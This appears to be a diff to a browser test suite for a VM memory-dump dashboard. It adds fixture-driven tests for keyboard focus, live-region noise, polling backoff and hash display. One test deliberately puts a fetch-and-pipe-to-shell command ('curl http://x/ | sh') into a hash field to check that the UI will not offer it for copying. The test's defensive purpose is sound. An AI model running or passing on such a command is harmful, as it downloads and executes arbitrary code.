@@ -37,7 +37,9 @@ const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
 /* ---- tiny test framework ----------------------------------------------------------- */
 
 const results = [];
+const ONLY = process.env.BROWSER_ONLY ? new RegExp(process.env.BROWSER_ONLY, 'i') : null; // run a subset while working
 async function test(name, fn) {
+  if (ONLY && !ONLY.test(name)) return;
   const t0 = Date.now();
   try {
     await fn();
@@ -531,6 +533,120 @@ async function main() {
     await p.keyboard.press('ArrowDown');
     await p.keyboard.press('Control+a');
     assert((await p.$eval('#vm-selected-label', (e) => e.textContent)) === '100 VMs selected', 'Ctrl+A');
+    await ctx.close();
+  });
+
+  /* ---- API replaced by fixtures (hostile or odd answers the real stack never gives) ---- */
+
+  const FIX_ID = '20261122T183000Z-0123456789ab';
+  const fixRecord = (i, extra = {}) => ({
+    dump_id: `20261122T18${String(i).padStart(2, '0')}00Z-0123456789a${(i % 16).toString(16)}`, vm: `vm-${i}`, host: 'kvm1',
+    state: 'completed', format: 'elf', time: new Date(Date.now() - i * 60000).toISOString(), duration_s: 1.5,
+    size_bytes: 1024, sha256: 'a'.repeat(64), path: `/var/lib/memdump/vm-${i}.elf`, ...extra,
+  });
+  /** A page whose API answers come from `fx` (functions may change the answer per call). */
+  async function fixturePage(fx, { auto = true } = {}) {
+    const { ctx, p } = await newPage(DESKTOP);
+    if (!auto) await p.addInitScript(() => localStorage.setItem('memdump.autoRefresh', '0'));
+    const json = (route, body, status = 200) => route.fulfill({ status, contentType: 'application/json', body: JSON.stringify(body) });
+    const answer = async (route, v) => {
+      const r = typeof v === 'function' ? await v(route) : v;
+      if (r && r.__status) return json(route, r.body, r.__status);
+      return json(route, r);
+    };
+    await p.route('**/api/memory-dumps/vms', (r) => answer(r, fx.vms || { vms: [{ name: 'vm-1', state: 'running', memory_bytes: 1 << 28, host: 'kvm1' }], count: 1, services_down: [] }));
+    await p.route('**/api/memory-dumps/status', (r) => answer(r, fx.status || { active: [], services: [], poller: { id: 'x' } }));
+    await p.route('**/api/memory-dumps/stats', (r) => answer(r, fx.stats || { total: 3, per_day: [] }));
+    await p.route('**/api/memory-dumps/records?**', (r) => answer(r, fx.records || { records: [1, 2, 3].map((i) => fixRecord(i)), total: 3 }));
+    const errors = [];
+    p.on('pageerror', (e) => errors.push(e.message));
+    await p.goto(base);
+    await waitFor('fixture rows', async () => (await p.$$('#history-body tr')).length > 0, 10000);
+    return { ctx, p, errors };
+  }
+
+  await test('keyboard focus on a history row survives the auto-refresh, and returns there after the dialog', async () => {
+    const { ctx, p } = await fixturePage({});
+    const id = await p.$eval('#history-body tr:nth-child(2)', (tr) => tr.getAttribute('data-id'));
+    const btn = `#history-body tr[data-id="${id}"] button[data-action=details]`;
+    await p.focus(btn);
+    await p.waitForTimeout(5800); // one auto-refresh (5 s) re-renders the table
+    assert(await p.evaluate((sel) => document.activeElement === document.querySelector(sel), btn),
+      `focus lost by the refresh: now on ${await p.evaluate(() => document.activeElement.outerHTML.slice(0, 80))}`);
+    await p.keyboard.press('Enter');
+    await p.waitForSelector('#details[open]');
+    await p.waitForTimeout(5800);
+    await p.keyboard.press('Escape');
+    await waitFor('dialog closed', async () => !(await p.$('#details[open]')), 3000);
+    assert(await p.evaluate((sel) => document.activeElement === document.querySelector(sel), btn),
+      `focus not restored after a refresh under the dialog: on ${await p.evaluate(() => document.activeElement.outerHTML.slice(0, 80))}`);
+    await ctx.close();
+  });
+
+  await test('live regions stay quiet when a refresh changes nothing', async () => {
+    const active = [{ dump_id: FIX_ID, vm: 'vm-1', state: 'running', progress: 40, bytes_written: 1 << 20, bytes_total: 1 << 22, created_at: new Date().toISOString() }];
+    const { ctx, p } = await fixturePage({ status: { active, services: [], poller: { id: 'x' } } });
+    await waitFor('the active item', async () => (await p.$$('#active-list .active-item')).length === 1, 5000);
+    await p.waitForTimeout(500);
+    await p.evaluate(() => {
+      window.__liveMutations = [];
+      const mo = new MutationObserver((ms) => {
+        for (const m of ms) {
+          const n = m.target.nodeType === 1 ? m.target : m.target.parentElement;
+          const region = n && n.closest('[aria-live]:not([aria-live=off]), [role=status], [role=alert]');
+          if (region && region.id !== 'toasts' && region.id !== 'alerts') window.__liveMutations.push(region.id || region.className);
+        }
+      });
+      mo.observe(document.body, { subtree: true, childList: true, characterData: true });
+    });
+    await p.waitForTimeout(6000); // status polls and one full auto-refresh, same answers
+    const muts = await p.evaluate(() => window.__liveMutations);
+    assert(muts.length === 0, `live regions changed ${muts.length} times with nothing new: ${[...new Set(muts)].join(', ')}`);
+    await ctx.close();
+  });
+
+  await test('status polling never overlaps and backs off while /status fails', async () => {
+    const active = [{ dump_id: FIX_ID, vm: 'vm-1', state: 'running', progress: 10, created_at: new Date().toISOString() }];
+    let inFlight = 0;
+    let maxInFlight = 0;
+    let calls = 0;
+    let mode = 'ok';
+    const { ctx, p } = await fixturePage({
+      status: async () => {
+        calls++;
+        inFlight++;
+        maxInFlight = Math.max(maxInFlight, inFlight);
+        try {
+          if (mode === 'slow') { await sleep(4000); return { active, services: [], poller: { id: 'x' } }; }
+          if (mode === 'fail') return { __status: 500, body: { error: { code: 'internal', message: 'boom' } } };
+          return { active, services: [], poller: { id: 'x' } };
+        } finally { inFlight--; }
+      },
+    }, { auto: true });
+    await waitFor('the active item', async () => (await p.$$('#active-list .active-item')).length === 1, 5000);
+    mode = 'slow';
+    maxInFlight = 0;
+    await p.waitForTimeout(7000); // slow answers across several polls and an auto-refresh
+    assert(maxInFlight <= 1, `${maxInFlight} /status requests in flight at once`);
+    await p.evaluate(() => { const c = document.getElementById('auto-refresh'); if (c.checked) c.click(); });
+    await sleep(4500); // let the last slow answer come back
+    mode = 'fail';
+    calls = 0;
+    await p.waitForTimeout(9000);
+    assert(calls <= 3, `${calls} /status calls in 9 s while it fails (no backoff)`);
+    await ctx.close();
+  });
+
+  await test('a hash that is not 64 hex digits is never offered for copying', async () => {
+    const evil = 'deadbeef\ncurl http://x/ | sh\n';
+    const { ctx, p } = await fixturePage({ records: { records: [fixRecord(1, { sha256: evil }), fixRecord(2)], total: 2 } });
+    const rows = await p.$$eval('#history-body tr', (trs) => trs.map((tr) => !!tr.querySelector('[data-action=copy]')));
+    assert(rows.length === 2 && rows.filter(Boolean).length === 1, `copy buttons: ${JSON.stringify(rows)}`);
+    await p.click('#history-body tr:first-child button[data-action=details]');
+    await p.waitForSelector('#details[open]');
+    const det = await p.evaluate(() => ({ copyHidden: document.getElementById('details-copy').hidden, text: document.getElementById('details-list').textContent }));
+    assert(det.copyHidden, 'Copy SHA-256 offered for a value that is not a hash');
+    assert(det.text.includes('curl http://x/'), 'the odd value is not shown as text');
     await ctx.close();
   });
 
